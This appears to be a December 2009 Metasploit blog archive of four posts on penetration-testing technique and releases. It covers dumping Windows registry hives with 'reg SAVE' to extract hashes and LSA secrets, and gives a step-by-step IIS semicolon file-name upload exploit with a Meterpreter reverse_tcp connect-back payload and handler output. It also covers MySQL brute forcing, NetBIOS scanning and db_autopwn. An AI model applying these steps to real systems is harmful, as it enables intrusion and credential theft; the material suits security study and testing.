Skip navigation
All Places > Metasploit > Blog > 2009 > December

Originally Posted by hdm



Over the last few days, I have been playing with WinScanX, a free command-line tool for querying Windows service information over SMB. WinScanX combines many of the essential tools used during a penetration test into a single utility. One of the more interesting features is the "-y" flag, which instructs WinScanX to save a copy of the remote registry hives for SAM, SECURITY, and SYSTEM. These three hives can be used in conjunction with Cain and Abel or creddump to dump the LANMAN/NTLM hashes, view cached credentials, and decrypt LSA secrets. All very useful pieces of data for a penetration test.


The traditional way to obtain this information is by injecting a thread into the LSASS.exe process, calling various undocumented Windows APIs, and exporting the decrypted data back out. The problem with this method is that process injection is not necessarily reliable, especially when third-party security products interfere with the injection code. Any crash in the LSASS.exe process will force the OS to halt or reboot, which is far from stealthy and generally not what you want have happen to a client's domain controller during a penetration test. The injection method is implemented by pwdump, fgcache, cachedump, and the "hashdump" command in the Metasploit Meterpreter payload.Since imitation is the sincerest form of flattery, I looked into how WinScanX implemented the registry hive export. Using the Remote Registry service over SMB/DCERPC, WinScanX calls the Save function, instructing the service to write an exported copy of the hive to the file system. WinScanX then downloads the hive using the ADMIN$ SMB share. This is a clean way to obtain the hive data, but newer versions of Windows disable the Remote Registry service by default, requiring the user to first enable it, then dump the hive, then disable it again. I would not be surprised if future versions of WinScanX implement this method.


In the context of Metasploit, we have the advantage of direct code execution on the target system, either through an exploit, or using psexec and a valid set of credentials. Instead of going through the Remote Registry service, it might be easier to run a local command in order to grab the registry hive. The command of choice for this is "reg.exe", included with Windows XP and all newer versions of the Windows operating system (missing from NT 4.0 and Windows 2000, but available as a separate download from Microsoft).The "reg EXPORT" command can be used to take a copy of a specific piece of the registry; the EXPORT option generates human-readable output files that are easy to parse and can be imported into a new system for testing. Metasploit already uses "reg EXPORT" in various Meterpreter scripts, including "scraper.rb" and "winenum.rb". For capturing the HKLM\SYSTEM and HKLM\SAM hives, the EXPORTcommand works just fine, albeit the output files can get enormous. Trying to EXPORT the HKLM\SECURITY key (as Administrator), however, results in the following error:


C:\>reg EXPORT HKLM\SECURITY security.reg
ERROR: Access is denied.


The SECURITY tree is required to dump cached credentials and LSA secrets (but not password hashes) and without it, we would be missing two important pieces of data. Going back to WinScanX, we see that it uses the Save function, and reg.exe offers a SAVE command, lets try that instead of EXPORT:C:\>reg SAVE HKLM\SECURITY security.hive
The operation completed successfully.


Hoorah! Even though the Administrator user does not have permission to read the HKLM\SECURITY key, reg.exe bypasses this restriction through the SAVE command. WinScanX uses the Save function call in the Remote Registry service, which likely calls the same backend function as reg.exe in this case. It looks like we have an easy way to grab the SECURITY hive from the command-line. This doesn't turn out to be quite the case, since this behavior changes depending on the version of Windows.


Edi Strosar came up with the following table based on his testing:


Windows 2000 SP4 (admin) = access denied
Windows XP SP2 (admin) = access denied
Windows XP SP3 (admin) = access denied
Windows 2003 R2 SP2 (admin) = works
Windows Vista SP2 (UAC/admin) = works
Windows 2008 SP1 (admin) = works
Windows 7 (UAC/admin) = worksThis is an odd case of older versions of Windows actually having tighter restrictions than newer ones. Even though Windows 2000/XP don't exhibit this behavior, these platforms have the Remote Registry service enabled by default, soWinScanX can be used to grab the SECURITY hive anyways.


Keep in mind that using the raw hive file requires a tool that understands the raw registry format (Cain and Abel / creddump). In order for Metasploit to have support for cached credentials and LSA secrets, we will need to implement a registry parser in Ruby (creddump may be a good reference implementation). In the short-term, we can reimplement Meterpreter's"hashdump" to be purely registry-based. This will require SYSKEY code to be implemented, but this should be immediately feasible based on public documentation and the Ruby OpenSSL extension.


Thanks to Edi Strosar, Carlos Perez, and Mario Vilas for their feedback on the reg.exe SAVE issue.



Originally Posted by hdm



As of this afternoon, the msfencode command has the ability to emit ASP scripts that execute Metasploit payloads. This can be used to exploit the currently-unpatched file name parsing bug feature in Microsoft IIS. This flaw allows a user who can upload a "safe" file extension (jpg, png, etc) to upload an ASP script and force it to execute on the web server. The bug occurs when a file name is specified in the form of "evil.asp;.jpg" -- the application checks the file extension and sees "jpg", but the IIS server will stop parsing at the first ";" and sees "asp". The result is trivial code execution on any IIS server that allows users tochoose the file name of their uploaded attachment.


For the following example, assume we have a web application that allows users to upload image files to the server. To complicate things, lets also assume that the application checks the file content to ensure that the uploaded file is a valid image. To exploit this, we need to generate an ASP script that drops a Meterpreter payload and configure a msfconsole instance to handle the session.First we generate an ASP script that does a Meterpreter connect-back to the system running Metasploit:


$ msfpayload windows/meterpreter/reverse_tcp \
  LHOST= LPORT=8443 R | \
  msfencode -o evil.asp


Now we need to configure msfconsole to accept the incoming connection:


$ msfconsole
msf> use exploit/multi/handler
msf (handler) > set PAYLOAD windows/meterpreter/reverse_tcp
msf (handler) > set LHOST
msf (handler) > set LPORT 8443
msf (handler) > set ExitOnSession false
msf (handler) > exploit -j


To avoid the image content validator, we will prepend a valid JPG image to our ASP script:


$ cat happy.jpg evil.asp > "evil.asp;.jpg"


$ file "evil.asp;.jpg"
JPEG image data, JFIF standard 1.02


Now we upload our "evil.asp;.jpg" image to the web application. Since the extension ends in "jpg" and thecontents of the file appear to be a valid JPEG, the web application accepts the file and renames it to "/images/evil.asp;.jpg"


Finally, we browse to the URL of the uploaded ASP/JPG, which will execute our payload and create a new session with the msfconsole:


[*] Starting the payload handler...
[*] Started reverse handler on port 8443
[*] Sendingstage (723456 bytes)
[*] Meterpreter session 1 opened ( -> 66.234.xx.xx:1186)


msf exploit(handler) > sessions -i 1
[*] Starting interaction with 1...


meterpreter > shell
Process 2668 created.
Channel 1 created.
wMicrosoft Windows [Version 5.2.3790]
(C) Copyright 1985-2003 Microsoft Corp.




nt authority\network service

Originally Posted by hdm



Even though Metasploit 3.3.3 was just released on December 23rd, the holidays provided some free time for the community and the development team to add more shiny to the Metasploit Framework.


Metasploit now has the ability to discover, brute force, and query MySQL database servers. This was a multi-pronged effort led by Bernardo Damele A. G, combined with TOMITA Masahiro's pure Ruby MySQL driver, tweaked by myself, and concisely documented by Carlos Perez. We will continue to improve MySQL exploitation support by borrowing some of the other techniques that Bernardo implemented in SQLMap (UDFs, upload, download).SunRPC support and NFS export scanning has been improved due to a series of patches from Ty Bodell. Expect to see more work around SunRPC and NFS in the future as we start porting more RPC exploits and automate the exploitation of weak NFS exports.


The database backend in Metasploit is going through some major changes; most recently, the report*() functions were modified to append to a queue as opposed to directly inserting data into the database. This solves a large number of performance problems and concurrency issues. This change ties in to the work by James Lee and Mike Smith in version 3.3.3 and has been integrated with the most of the existing auxiliary/scanner/ modules. For the average user, this means that once a database has been configured, modules will start automatically saving their results as they run.


We added a NetBIOS name scanner that can retrieve the hostname, domain, and ethernet mac address of any machine running NetBIOS services (Windows, Samba). What makes this module unique is that it sends a second probe to each host, targeted at the NetBIOS hostname, asking for a list of IP addresses to which that name is bound. This effectively provides a way to enumerate all IP addresses of a Windows or Unix machine (running Samba) with just two UDP packets. This technique allows for the identification of VPN clients, VMWare virtual networks, wireless links, and multi-homed hosts. The examples below demonstrate this module and some of the results that can be found while using it.msf> use auxiliary/scanner/netbios/nbname
msf auxiliary(nbname) > set RHOSTS
msf auxiliary(nbname) > run


[*] Sending NetBIOS status requests to>


[*] [WIN7SONY] OS:Windows


[*] [STORAGE] OS:Unix
Addresses:(, 66.194.xx.xx)This example shows a Windows 7 machine running VMware Workstation (the two additional IP addresses) and an Ubuntu Linux system running Samba with both an internal and external IP address. An external machine running Samba with multiple interfaces would look something like:


[*] 66.240.xx.xx [DBxxxxxx] OS:Unix
Names:(DBxxxxxx, __MSBROWSE__)
Addresses:(66.240.xx.xx, 71.6.yy.yy, 71.6.zz.zz)


The sweep_udp module has been updated to parse out the NetBIOS status information but doesn't send the secondary probe to obtain the IP address list.


Last but not least, we have added a number of new exploits and auxiliary modules to the tree since version 3.3.3 was released. These exploits include file format modules for Media Jukebox and Mini-stream as well as a remote exploit for HP RecoveryManager's Omni-Inet service.

Originally Posted by hdm



This morning we released version 3.3.3 of the Metasploit Framework - this release focuses on  exploit rankings, session automation, and bug fixes. The exploit rank indicates how reliable the exploit is and how likely it is for the exploit to have a negative impact on the target system. This ranking can be used to  prevent exploits below a certain rank from being used and limit the impact to a particular target.


The most basic use of ranking is the search command - this command now accepts the "-r" parameter, which takes an argument indicating the minimum ranking value to show. Valid ranks are excellent, great, good, normal, average, low, and manual. The exploit rankings page goes into greater detail on what these levels actually mean. The following command would show all modules ranked as "great" or better:


msf> search -r great


From the console, the MinimumRank global option can be used to prevent less-reliable exploits from being run by accident. The following commands demonstrate this feature:


msf> setg MinimumRank excellent
msf> use exploit/windows/smb/ms08_067_netapi


msf (exploit/ms08_067_netapi) > exploit


[-] This exploit is below the minimum rank, 'excellent'.
[-] If you really want to run it, do 'exploit -f' or
[-] setg MinimumRank to something lower ('manual' is
[-] the lowest and would allow running all exploits).


The exploit automation features in Metasploithave been updated to accept a minimum rank value as well. From the Metasploit Framework NeXpose Plugin or db_autopwn commands, the "-R" parameter can be used to specify the minimum rank. This instructs the exploit matching algorithm to only run exploits with that rank or better, which not only speeds up the exploit process, but reduces the chance that the target machines and services will crash. The example below shows db_autopwn being used with a NeXpose scan import to only target vulnerabilities where the exploit is ranked excellent:msf exploit(psexec) > db_autopwn -b -x -t
[*]   XX.YY.44.223:1220  exploit/unix/webapp/qtss_parse_xml_exec  (CVE-2003-0050, BID-6954)
[*]   XX.YY.41.188:445  exploit/windows/smb/ms08_067_netapi  (NEXPOSE-dcerpc-ms-netapi-netpathcanonicalize-dos)
[*]   XX.YY.77.234:445  exploit/windows/smb/psexec  (CVE-1999-0504, CVE-1999-0504, CVE-1999-0504, CVE-1999-0504)
[*]   XX.YY.47.203:445  exploit/windows/smb/ms08_067_netapi  (NEXPOSE-dcerpc-ms-netapi-netpathcanonicalize-dos)
